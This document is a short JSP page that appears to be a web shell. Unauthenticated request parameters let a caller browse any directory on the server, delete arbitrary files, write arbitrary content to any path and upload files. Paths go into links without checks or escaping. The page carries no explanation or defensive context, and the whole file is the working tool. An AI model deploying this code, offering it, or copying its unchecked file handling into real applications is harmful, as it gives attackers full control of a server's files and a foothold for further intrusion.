<%@ page import="java.io.*,java.util.*" contentType="text/html; charset=UTF-8" %>
<%
    String path = request.getParameter("path");
    if (path == null) path = application.getRealPath("/");
    String action = request.getParameter("action");
    File dir = new File(path);
    if ("del".equals(action)) {
        new File(request.getParameter("file")).delete();
    } else if ("save".equals(action)) {
        FileOutputStream fo = new FileOutputStream(new File(request.getParameter("file")));
        fo.write(request.getParameter("content").getBytes("UTF-8"));
        fo.close();
        out.println("saved");
    } else if ("upload".equals(action)) {
        InputStream in = request.getInputStream();
        FileOutputStream fo = new FileOutputStream(new File(dir, request.getParameter("name")));
        byte[] b = new byte[8192]; int n;
        while ((n = in.read(b)) > 0) fo.write(b, 0, n);
        fo.close();
    }
    out.println("<h3>" + dir.getAbsolutePath() + "</h3><table>");
    File[] list = dir.listFiles();
    if (list != null) {
        for (File f : list) {
            out.println("<tr><td><a href='?path=" + f.getAbsolutePath() + "'>" + f.getName() + "</a></td><td>"
                    + f.length() + "</td><td><a href='?action=del&file=" + f.getAbsolutePath() + "'>del</a></td></tr>");
        }
    }
    out.println("</table>");
%>
